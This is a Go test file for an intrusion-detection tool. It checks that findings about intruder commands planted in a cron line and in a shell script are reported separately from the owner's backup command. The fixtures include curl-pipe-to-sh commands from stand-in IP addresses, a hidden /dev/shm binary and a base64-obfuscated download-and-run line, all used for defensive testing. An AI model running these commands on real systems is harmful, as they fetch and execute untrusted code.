package detect

import (
	"fmt"
	"strings"
	"testing"

	"github.com/deminer/deminer"
	"github.com/deminer/deminer/internal/host/hosttest"
)

// TestReasonsOfOneCommand: what is found of one of an intruder's commands among the owner's is not said of the others, whether
// they stand in one line or in one script; each is spoken of for its own reason.
func TestReasonsOfOneCommand(t *testing.T) {
	const script = "/usr/local/bin/job.sh"
	owner := "/usr/local/bin/backup"
	bad := []string{"curl -fsS http://203.0.113.7/a.sh | sh", "curl -fsS http://203.0.113.8/b.sh | sh", "/dev/shm/.k/kit -B", "echo Y3VybCAtZnNTIGh0dHA6Ly8xOTIuMC4yLjkvYyB8IHNoIC1zIC0tIHF1aWV0 | base64 -d | sh"}
	marks := []string{"203.0.113.7", "203.0.113.8", "/dev/shm/.k/kit", "base64"}
	all := append([]string{owner}, bad...)
	h, err := hosttest.Parse([]byte("-- " + script + " --\n#!/bin/sh\n" + strings.Join(all, "\n") + "\n-- " + owner + " --\nbackup of it all\n-- /dev/shm/.k/kit --\nsome program\n" +
		"-- @attr --\n" + script + " mode=755\n" + owner + " mode=755\n/dev/shm/.k/kit mode=755\n"))
	if err != nil {
		t.Fatal(err)
	}
	own := []deminer.Provenance{{State: deminer.Unowned}}
	entry := func(at string, no int, line, command string, targets ...string) deminer.Foothold {
		f := deminer.Foothold{Mechanism: "cron", ID: "PL-01", Path: deminer.Raw(at), Line: deminer.Raw(line), LineNo: no, Command: deminer.Raw(command), Targets: targets}
		for range targets {
			f.TargetOwn = append(f.TargetOwn, own...)
		}
		return f
	}
	line := "* * * * * root " + strings.Join(all, "; ")
	oneLine := entry("/etc/cron.d/a", 1, line, strings.Join(all, "; "), owner, "/dev/shm/.k/kit")
	inLine, inScript := deminer.Shared{Whole: oneLine.Artifact()}, deminer.Shared{Whole: file(script)}
	for i, c := range all {
		var targets []string
		if strings.HasPrefix(c, "/") {
			targets = []string{strings.Fields(c)[0]}
		}
		a, b := entry("/etc/cron.d/a", 1, line, c, targets...), entry(script, i+2, c, c, targets...)
		a.Part, b.Part = fmt.Sprint("command ", i), fmt.Sprint("command ", i)
		inLine.Parts, inScript.Parts = append(inLine.Parts, a), append(inScript.Parts, b)
	}
	h.Snapshot.Footholds = []deminer.Foothold{oneLine, entry("/etc/cron.d/b", 1, "* * * * * root "+script, script, script)}
	h.Snapshot.Shared = []deminer.Shared{inLine, inScript}
	spoken := map[string]bool{}
	p := newPass(t, h, func(f deminer.Finding) {
		n := -1
		for i := range all {
			if f.Subject.Part == fmt.Sprint("command ", i) {
				n = i - 1
			}
		}
		if f.Tier != deminer.Strong && f.Tier != deminer.Proof || f.Subject.Part == "" {
			return
		}
		if n < 0 {
			t.Errorf("said of the owner's command: %s", say(f))
			return
		}
		spoken[fmt.Sprint(f.Subject.Path, " ", n)] = true
		text := fmt.Sprintln(f.Title, f.Why, f.Indicators, f.Also)
		for i, m := range marks {
			if i != n && strings.Contains(text, m) {
				t.Errorf("%s\n\tof %q says what was found of %q:\n\t%s", say(f), bad[n], bad[i], text)
			}
		}
	})
	for _, d := range All() {
		if err := d.Run(t.Context(), p); err != nil {
			t.Error(err)
		}
	}
	for i := range bad {
		for _, at := range []string{"/etc/cron.d/a", script} {
			if !spoken[fmt.Sprint(at, " ", i)] {
				t.Errorf("nothing strong is said of %q in %s", bad[i], at)
			}
		}
	}
}
